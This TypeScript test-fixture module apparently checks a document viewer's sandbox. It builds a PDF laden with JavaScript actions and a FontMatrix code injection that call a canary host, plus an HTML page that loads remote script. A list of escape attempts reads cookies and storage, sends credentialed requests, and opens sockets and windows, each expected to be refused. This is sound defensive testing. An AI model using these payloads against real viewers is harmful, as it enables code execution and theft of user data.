/** Files that ask for something to be run, or for an address to be asked. */

/**
 * A page of words that, when it is opened, shown, printed or left, runs and asks for all that a PDF can.
 * @param scan - a picture of JPEG 2000, 48 by 32, on a second page
 */
export function hostilePdf(canary: string, scan: Uint8Array): Uint8Array<ArrayBuffer> {
  const script = `app.launchURL("${canary}js"); this.submitForm("${canary}form"); globalThis.wasRun = true;`;
  const run = `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`;
  const content = 'BT /F1 24 Tf 40 120 Td (The van is white) Tj ET';
  const shown = 'q 240 0 0 160 30 20 cm /I Do Q';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${run} /AA << /WC ${run} /WP ${run} >> /Names << /JavaScript << /Names [(a) ${run}] >> >> /AcroForm << /Fields [6 0 R] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>wasRun=true</script></xdp:xdp>) >> >>`,
    '<< /Type /Pages /Kids [3 0 R 8 0 R] /Count 2 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] /AA << /O ${run} /C << /S /URI /URI (${canary}page) >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    // A matrix of which a former reader made a program.
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); globalThis.wasRun = true)] >>',
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (${canary}submit) >> /AA << /E ${run} /PO ${run} >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${canary}link) /Next << /S /Launch /F (${canary}launch) >> >> >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents [9 0 R 10 0 R] /Resources << /XObject << /I 11 0 R >> >> >>`,
    `<< /Length ${shown.length} >>\nstream\n${shown}\nendstream`,
    `<< /Length 0 /F << /FS /URL /F (${canary}stream) >> >>\nstream\n\nendstream`,
    `<< /Type /XObject /Subtype /Image /Width 48 /Height 32 /Filter /JPXDecode /Length ${scan.length} >>\nstream\n${Buffer.from(scan).toString('latin1')}\nendstream`,
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${places.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${places.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(text + table + end, 'latin1'));
}

export function hostilePage(canary: string): string {
  return `<!doctype html><img src="${canary}img"><script src="${canary}script"></script><script>wasRun = true</script>`;
}

/**
 * What a program would try that runs where files are shown. Run in there; nothing from around it is known to it.
 * @returns by name what came of each: all `refused`
 */
export async function attempts(canary: string): Promise<Record<string, string>> {
  const tries: Record<string, () => unknown> = {
    'the page around': () => parent.document.body,
    'its address': () => parent.location.href,
    storage: () => localStorage.length,
    cookies: () => document.cookie,
    databases: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    'another address': () => fetch(canary + 'fetch', { mode: 'no-cors' }),
    'the server': () => fetch('/api/directory'),
    'the server as the officer': () => fetch('/api/feed', { credentials: 'include', method: 'POST' }),
    'a picture': () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = canary + 'image.png';
      }),
    'a beacon': () => {
      // Chromium says yes before it looks at the policy: whether it was sent, the stranger knows.
      navigator.sendBeacon(canary + 'beacon');
      throw new Error('refused, or asked in vain');
    },
    'a socket': () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(canary.replace('http', 'ws') + 'socket');
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    'a connection between browsers': () => new RTCPeerConnection(),
    // oxlint-disable-next-line typescript/no-implied-eval -- whether it is possible is the question
    'a script in words': () => new Function('return 1'),
    'a worker': () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
    'a window': () => {
      if (window.open(canary + 'window') === null) throw new Error('refused');
    },
    'the page’s own address': () => {
      top!.location.href = canary + 'top';
    },
  };
  const found: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      found[name] = 'done';
    } catch {
      found[name] = 'refused';
    }
  }
  return found;
}
